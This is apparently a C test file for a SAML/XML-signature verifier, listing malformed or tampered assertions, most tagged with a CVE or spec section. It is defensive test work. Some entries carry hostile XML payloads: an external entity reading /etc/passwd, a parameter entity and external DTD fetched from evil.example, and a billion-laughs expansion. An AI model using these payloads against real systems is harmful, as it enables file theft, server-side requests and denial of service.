/*
 * Other spellings of the same document, and what XML has beyond elements and text.
 * All of them are signed with the genuine key, over the bytes as they are.
 */
#include "tests/attack/attack.h"

#define DUO       "CVE-2017-11427" /* comments that cut a text short */
#define C14N      "exc-c14n: one form"
#define NAMEID    "<saml:NameID Format=\"" FORMAT "\">"
#define END       "</saml:Assertion>"
#define AUD       "<saml:Audience>"
#define RESTRICT  "<saml:AudienceRestriction>"
#define INSTANT   " IssueInstant=\"2026-11-22T10:00:00Z\""
#define VERSION   " Version=\"2.0\""
#define ROUNDTRIP "CVE-2020-29509" /* name spaces through Go's encoding/xml */

/* The whole, in another encoding; done when it is signed. */
enum encoding {
    UTF16_LE,
    UTF16_BE,
    UTF16_WITHOUT_MARK,
    UTF32_BE,
    UTF8_MARK,
    EBCDIC_MARK,
};

static void
put_unit(struct buf *b, uint8_t c, enum encoding to)
{
    if (to == UTF32_BE)
        buf_u16(b, 0);
    if (to == UTF16_LE)
        buf_u8(b, c);
    buf_u8(b, 0);
    if (to != UTF16_LE)
        buf_u8(b, c);
}

static void
recode(struct forgery *f, int to)
{
    static const char *const marks[] = {
        "\xff\xfe", "\xfe\xff", "", "", "\xef\xbb\xbf", "\x4c\x6f\xa7\x94"};
    struct buf b;

    buf_init(&b);
    buf_str(&b, marks[to]);
    for (size_t i = 0; i < f->xml.len; i++) {
        if (to == UTF8_MARK || to == EBCDIC_MARK)
            buf_u8(&b, f->xml.data[i]);
        else
            put_unit(&b, f->xml.data[i], (enum encoding)to);
    }
    buf_clear(&f->xml);
    f->xml = b;
}

/* A NUL, and what no text may hold. */
static void
put_nul(struct forgery *f, int where)
{
    static const char *const places[] = {END, "</saml:NameID>", " Version="};
    uint8_t *at = memmem(f->xml.data, f->xml.len, places[where], strlen(places[where]));
    struct buf b;

    assert_non_null(at);
    if (where == 0)
        at += strlen(END);
    buf_init(&b);
    buf_put(&b, f->xml.data, (size_t)(at - f->xml.data));
    buf_u8(&b, 0);
    buf_put(&b, at, f->xml.len - (size_t)(at - f->xml.data));
    buf_clear(&f->xml);
    f->xml = b;
}

/*
 * White space before the n-th of such bytes, or behind it; a step for each. more is
 * cleared at the last.
 */
static void
put_at(struct forgery *f, unsigned n, char c, size_t offset, char blank)
{
    const uint8_t *at = f->xml.data, *end = at + f->xml.len;
    struct buf b;

    for (unsigned i = 0; i <= n; i++) {
        at = memchr(at, c, (size_t)(end - at));
        assert_non_null(at);
        at++;
    }
    f->more = memchr(at, c, (size_t)(end - at)) != NULL;
    at = at - 1 + offset;
    buf_init(&b);
    buf_put(&b, f->xml.data, (size_t)(at - f->xml.data));
    buf_u8(&b, (uint8_t)blank);
    buf_put(&b, at, (size_t)(end - at));
    buf_clear(&f->xml);
    f->xml = b;
}

static void
put_blank(struct forgery *f, int behind)
{
    put_at(
        f, f->step / 2, behind ? '>' : '<', behind ? 1 : 0, f->step % 2 ? '\n' : ' ');
    f->more |= f->step % 2 == 0;
}

/* Inside of tags: before each '>', before each '='. */
static void
put_blank_in_tag(struct forgery *f, int c)
{
    put_at(f, f->step, (char)c, 0, ' ');
}

/* The ticket up to the n-th byte, for each n. */
static void
cut_xml(struct forgery *f, int unused)
{
    (void)unused;
    f->xml.len = f->step;
    if (f->step == 0)
        f->xml.len = f->base->len - 1;
    f->more = f->step + 2 < f->base->len;
}

static const struct attack list[] = {
    /* Comments, PIs, CDATA. */
    MISMADE("a comment in NameID", DUO, NAMEID, "$0usr_0<!-- -->", FORM),
    MISMADE("a comment behind the NameID's text", "CVE-2018-7340", "</saml:NameID>",
        "<!-- -->$0", FORM),
    MISMADE("a comment and more text behind it", "CVE-2017-11428", "</saml:NameID>",
        "<!-- -->.evil$0", FORM),
    MISMADE(
        "a comment in Issuer", "CVE-2018-0489", "</saml:Issuer>", "<!-- -->$0", FORM),
    MISMADE("a comment in Audience", DUO, AUD, "$0<!-- -->", FORM),
    MISMADE("a comment in an AttributeValue", "CVE-2017-11430", "<saml:AttributeValue>",
        "$0<!-- -->", FORM),
    MISMADE("a comment in KeyName", DUO, "<ds:KeyName>", "$0<!-- -->", FORM),
    MADE(SIGNED, "a comment in SignatureValue", "CVE-2025-29775", NULL, 0, FORM,
        .after = {{"</ds:SignatureValue>", "<!-- -->$0"}}),
    MISMADE("a comment in Action", DUO, "</saml:Action>", "<!-- -->$0", FORM,
        .on = PERMITS),
    MISMADE("a comment between elements", C14N, "<saml:Subject>", "<!-- -->$0", FORM),
    MISMADE("a comment in front", C14N, NULL, "<!-- -->$0", FORM),
    MISMADE("a comment behind", C14N, END, "$0<!-- -->", FORM),
    MISMADE("a PI in NameID", DUO, "</saml:NameID>", "<?x y?>$0", FORM),
    MISMADE("a PI between elements", C14N, "<saml:Subject>", "<?x y?>$0", FORM),
    MISMADE("a PI in front", "XML stylesheet PI", NULL,
        "<?xml-stylesheet href=\"x\"?>$0", FORM),
    MISMADE("a PI behind", C14N, END, "$0<?x?>", FORM),
    MISMADE("CDATA in NameID", DUO, NAMEID ALICE, NAMEID "<![CDATA[" ALICE "]]>", FORM,
        .on = SHORT),
    MISMADE("empty CDATA in NameID", DUO, "</saml:NameID>", "<![CDATA[]]>$0", FORM),
    MISMADE("CDATA in Audience", DUO, AUD, "$0<![CDATA[]]>", FORM),
    MADE(SIGNED, "CDATA in DigestValue", "CVE-2025-29775", NULL, 0, FORM,
        .after = {{"<ds:DigestValue>", "$0<![CDATA[]]>"}}),

    /* Entities and DTDs. */
    MISMADE("a decimal character reference", "XML 1.0 4.1", NAMEID "u", NAMEID "&#117;",
        FORM, .on = SHORT),
    MISMADE("a hexadecimal character reference", "XML 1.0 4.1", NAMEID "u",
        NAMEID "&#x75;", FORM, .on = SHORT),
    MISMADE("a reference in an attribute", "XML 1.0 4.1", VERSION,
        " Version=\"2&#46;0\"", FORM),
    MISMADE("&#0;", "XML 1.0 2.2", "</saml:NameID>", "&#0;$0", FORM),
    MISMADE("&lt; in a resource", "docs/tickets.md: &amp; alone", FOLDER, FOLDER "&lt;",
        FORM, .on = RIGHTS),
    MISMADE("&quot; in a resource", "docs/tickets.md: &amp; alone", FOLDER,
        FOLDER "&quot;", FORM, .on = RIGHTS),
    MISMADE("&apos; for an apostrophe", "docs/tickets.md: &amp; alone", "a'b",
        "a&apos;b", FORM, .on = BEARER),
    MISMADE("&#38; for &amp;", C14N, "&amp;", "&#38;", FORM, .on = BEARER),
    MISMADE("a bare &", "XML 1.0 4.1", "&amp;", "&", FORM, .on = BEARER),
    MISMADE("&amp without its end", "XML 1.0 4.1", "&amp;", "&amp", FORM, .on = BEARER),
    MISMADE("&AMP;", "XML 1.0 4.6", "&amp;", "&AMP;", FORM, .on = BEARER),
    MISMADE("&amp;amp;: escaped twice", "control", "&amp;", "&amp;amp;", NONE,
        .on = BEARER),
    MISMADE("an entity that is declared", "CVE-2013-6440", NULL,
        "<!DOCTYPE a [<!ENTITY x \"" ALICE "\">]>$0", FORM, .edit[1] = {ALICE, "&x;"},
        .on = SHORT),
    MISMADE("an external entity", "CVE-2013-6440, CVE-2022-35741", NULL,
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>$0", FORM,
        .edit[1] = {ALICE, "&x;"}, .on = SHORT),
    MISMADE("a parameter entity", "CVE-2013-6440", NULL,
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"https://evil.example/x\">%x;]>$0", FORM),
    MISMADE("a billion laughs", "CVE-2003-1564", NULL,
        "<!DOCTYPE a [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\">"
        "<!ENTITY c \"&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;\">]>$0",
        FORM, .edit[1] = {"</saml:NameID>", "&d;</saml:NameID>"}),
    MISMADE("an empty DTD", "CVE-2025-25291", NULL, "<!DOCTYPE Assertion>$0", FORM),
    MISMADE("a DTD that makes IDs", "xmlsec and libxml2 ID tables", NULL,
        "<!DOCTYPE a [<!ATTLIST saml:Subject x ID #IMPLIED>]>$0", FORM),
    MISMADE("a DTD that gives an attribute", "CVE-2020-29510", NULL,
        "<!DOCTYPE a [<!ATTLIST saml:Assertion x CDATA \"y\">]>$0", FORM),
    MISMADE("a DTD from elsewhere", "CVE-2013-6440", NULL,
        "<!DOCTYPE a SYSTEM \"https://evil.example/a.dtd\">$0", FORM),
    MISMADE("XInclude", "CVE-2021-40690", "<saml:Subject>",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"x\">"
        "</xi:include>$0",
        FORM),

    /* Declarations and encodings. */
    MISMADE("an XML declaration", C14N, NULL, "<?xml version=\"1.0\"?>$0", FORM),
    MISMADE("a declaration of UTF-8", C14N, NULL,
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>$0", FORM),
    MISMADE("a declaration of UTF-7", "XML 1.0 4.3.3", NULL,
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>$0", FORM),
    MISMADE("a declaration of UTF-16 that is none", "XML 1.0 4.3.3", NULL,
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>$0", FORM),
    MISMADE(
        "a declaration of XML 1.1", "XML 1.1", NULL, "<?xml version=\"1.1\"?>$0", FORM),
    MADE(SIGNED, "a byte order mark", "XML 1.0 4.3.3", NULL, UTF8_MARK, FORM,
        .finish = recode),
    MADE(SIGNED, "UTF-16, little-endian", "XML 1.0 4.3.3", NULL, UTF16_LE, FORM,
        .finish = recode),
    MADE(SIGNED, "UTF-16, big-endian", "XML 1.0 4.3.3", NULL, UTF16_BE, FORM,
        .finish = recode),
    MADE(SIGNED, "UTF-16 without a mark", "XML 1.0 F", NULL, UTF16_WITHOUT_MARK, FORM,
        .finish = recode),
    MADE(SIGNED, "UTF-32", "XML 1.0 F", NULL, UTF32_BE, FORM, .on = IDENTITY,
        .finish = recode),
    MADE(SIGNED, "the mark of EBCDIC", "XML 1.0 F", NULL, EBCDIC_MARK, FORM,
        .finish = recode),
    MISMADE("UTF-7 in a text", "XML 1.0 4.3.3", "</saml:NameID>", "+ADw-$0", FORM),
    MISMADE(
        "an overlong '/'", "RFC 3629 3", FOLDER, FOLDER "\xc0\xaf", FORM, .on = RIGHTS),
    MISMADE("an overlong NUL", "RFC 3629 3", "</saml:NameID>", "\xc0\x80$0", FORM),
    MISMADE(
        "a surrogate in UTF-8", "RFC 3629 3", "</saml:NameID>", "\xed\xa0\x80$0", FORM),
    MISMADE("half a character", "RFC 3629 3", "</saml:NameID>", "\xc3$0", FORM),
    MISMADE("another script's letter", "UTS 39", FOLDER, FOLDER "\xd0\xb0", FORM,
        .on = RIGHTS),
    MISMADE("a no-break space", "UTS 39", "</saml:NameID>", "\xc2\xa0$0", FORM),
    MADE(SIGNED, "a NUL behind", "CWE-158", NULL, 0, FORM, .finish = put_nul),
    MADE(SIGNED, "a NUL in NameID", "CWE-158", put_nul, 1, FORM),
    MADE(SIGNED, "a NUL in the tag", "CWE-158", put_nul, 2, FORM),
    MISMADE("a control character", "XML 1.0 2.2", "</saml:NameID>", "\x01$0", FORM),
    MISMADE("a DEL", "XML 1.0 2.2", "</saml:NameID>", "\x7f$0", FORM),

    /* Name spaces and prefixes. */
    MISMADE("the prefix s", C14N, "saml:", "s:", FORM, .everywhere = true),
    MISMADE("the prefix saml2", C14N, "saml:", "saml2:", FORM, .everywhere = true,
        .edit[1] = {"xmlns:saml=", "xmlns:saml2="}),
    MISMADE("no prefix", C14N, "<saml:Issuer>", "<Issuer xmlns=\"" SAML_NS "\">", FORM,
        .edit[1] = {"</saml:Issuer>", "</Issuer>"}),
    MISMADE("the prefix dsig", C14N, "<ds:KeyName>",
        "<dsig:KeyName xmlns:dsig=\"" DS_NS "\">", FORM,
        .edit[1] = {"</ds:KeyName>", "</dsig:KeyName>"}),
    MISMADE("an unbound prefix", ROUNDTRIP, "<saml:Subject>",
        "<saml:Subject x:y=\"z\">", FORM),
    MISMADE("the prefix bound to another name space", ROUNDTRIP, SAML_NS,
        "urn:oasis:names:tc:SAML:1.0:assertion", FORM),
    MISMADE("a name space in upper case", ROUNDTRIP, SAML_NS,
        "URN:OASIS:NAMES:TC:SAML:2.0:ASSERTION", FORM),
    MISMADE("an empty name space", ROUNDTRIP, "xmlns:saml=\"" SAML_NS "\"",
        "xmlns:saml=\"\"", FORM),
    MISMADE("no name space", ROUNDTRIP, " xmlns:saml=\"" SAML_NS "\"", "", FORM),
    MISMADE("the prefix bound again, to another", "CVE-2025-25292", "<saml:Subject>",
        "<saml:Subject xmlns:saml=\"urn:x\">", FORM),
    MISMADE("the prefix bound again, to the same", C14N, "<saml:Subject>",
        "<saml:Subject xmlns:saml=\"" SAML_NS "\">", FORM),
    MISMADE("a default name space", "CVE-2025-66567", "<saml:Assertion ",
        "<saml:Assertion xmlns=\"" SAML_NS "\" ", FORM),
    MISMADE("an unused prefix", C14N, "<saml:Assertion ",
        "<saml:Assertion xmlns:a=\"urn:a\" ", FORM),
    MISMADE("the prefix xmlns", ROUNDTRIP, "<saml:Subject>", "<xmlns:Subject>", FORM),
    MISMADE("the prefix xml bound", "The Fragile Lock 2025", "<saml:Subject>",
        "<saml:Subject xmlns:xml=\"http://www.w3.org/XML/1998/namespace\">", FORM),
    MISMADE("two colons in a name", "CVE-2020-29511", "<saml:Subject>",
        "<saml:x:Subject>", FORM),
    MISMADE("xsi:type by another prefix", C14N,
        "xsi:type=\"saml:", "xsi:type=\"s:", FORM, .on = BOUND),
    MISMADE("another xsi:type", "SAML core 2.4.1.3", "KeyInfoConfirmationDataType",
        "anyType", FORM, .on = BOUND),
    MISMADE("no xsi:type", "SAML core 2.4.1.3",
        " xsi:type=\"saml:KeyInfoConfirmationDataType\"", "", FORM, .on = BOUND),
    MISMADE("xsi:schemaLocation", "CVE-2013-6440", "<saml:Subject>",
        "<saml:Subject xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
        " xsi:schemaLocation=\"a b\">",
        FORM),
    MISMADE("xsi:nil", "XML Schema 2.6.2", "<saml:Subject>",
        "<saml:Subject xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
        " xsi:nil=\"true\">",
        FORM),
    MISMADE("xml:space", C14N, "<saml:Subject>",
        "<saml:Subject xml:space=\"preserve\">", FORM),
    MISMADE("xml:base", "XML Base", "<saml:Assertion ",
        "<saml:Assertion xml:base=\"https://evil.example/\" ", FORM),

    /* Attributes. */
    MISMADE(
        "attributes in another order", C14N, INSTANT VERSION, VERSION INSTANT, FORM),
    MISMADE("ID last", C14N, " ID=\"$I\"" INSTANT VERSION, INSTANT VERSION " ID=\"$I\"",
        FORM),
    MISMADE("the name space last", C14N, "xmlns:saml=\"" SAML_NS "\" ID=\"$I\"",
        "ID=\"$I\" xmlns:saml=\"" SAML_NS "\"", FORM),
    MISMADE("single quotes", C14N, VERSION, " Version='2.0'", FORM),
    MISMADE("no quotes", "XML 1.0 3.1", VERSION, " Version=2.0", FORM),
    MISMADE("an attribute twice", "XML 1.0 3.1", VERSION, VERSION VERSION, FORM),
    MISMADE("an attribute more", "The Fragile Lock 2025", VERSION, VERSION " x=\"y\"",
        FORM),
    MISMADE("an attribute in an end tag", "XML 1.0 3.1", "</saml:Issuer>",
        "</saml:Issuer x=\"y\">", FORM),
    MISMADE("no Version", "SAML core 2.3.3", VERSION, "", FORM),
    MISMADE("Version 1.1", "SAML core 2.3.3", VERSION, " Version=\"1.1\"", FORM),
    MISMADE("Version 2.1", "SAML core 2.3.3", VERSION, " Version=\"2.1\"", FORM),
    MISMADE("two blanks between attributes", C14N, VERSION, " " VERSION, FORM),
    MISMADE("a tab between attributes", C14N, VERSION, "\tVersion=\"2.0\"", FORM),
    MISMADE("a line end between attributes", C14N, VERSION, "\nVersion=\"2.0\"", FORM),
    MISMADE(
        "no blank between attributes", "XML 1.0 3.1", VERSION, "Version=\"2.0\"", FORM),
    MISMADE("a blank around '='", C14N, VERSION, " Version = \"2.0\"", FORM),

    /* Tags and white space. */
    MISMADE("an empty-element tag", C14N, "></ds:Transform>", "/>", FORM),
    MISMADE("empty-element tags everywhere", C14N, "></ds:CanonicalizationMethod>",
        "/>", FORM, .edit[1] = {"></ds:DigestMethod>", "/>"}),
    MISMADE("a blank in an end tag", C14N, "</saml:Issuer>", "</saml:Issuer >", FORM),
    MISMADE(
        "a name in upper case", "XML 1.0 2.3", "<saml:Issuer>", "<saml:ISSUER>", FORM),
    MISMADE(
        "another end tag", "XML 1.0 3.1", "</saml:Issuer>", "</saml:Issuers>", FORM),
    MISMADE("no end tag", "XML 1.0 3.1", "</saml:Issuer>", "", FORM),
    MISMADE("two end tags", "XML 1.0 3.1", END, END END, FORM),
    MISMADE("text behind", "XML 1.0 2.1", END, END "x", FORM),
    MISMADE("a line end behind", C14N, END, END "\n", FORM),
    MISMADE("text between elements", "XML Schema mixed", "<saml:Subject>", "x$0", FORM),
    MISMADE("another element between", "SAML core 2.3.3", "<saml:Subject>",
        "<saml:X></saml:X>$0", FORM),
    MADE(AS_IS, "white space before each tag", C14N, put_blank, 0, FORM,
        .on = RIGHTS | BEARER),
    MADE(AS_IS, "white space behind each tag", C14N, put_blank, 1, FORM,
        .on = RIGHTS | BEARER),
    MADE(AS_IS, "a blank in each tag, at its end", C14N, put_blank_in_tag, '>', FORM,
        .on = IDENTITY | RSA2048),
    MADE(AS_IS, "a blank in each tag, at each '='", C14N, put_blank_in_tag, '=', FORM,
        .on = RIGHTS | P256),
    MISMADE("indented", C14N, "><", ">\n  <", FORM, .everywhere = true),
    MISMADE("CR LF between elements", "XML 1.0 2.11", "><", ">\r\n<", FORM,
        .everywhere = true),
    MADE(AS_IS, "cut off behind every byte", "CWE-130", cut_xml, 0, FORM,
        .on = RIGHTS | BEARER),
};

const struct attack_group attacks_on_xml = {
    "XML: comments, entities, encodings, prefixes, white space", list, COUNT(list)};
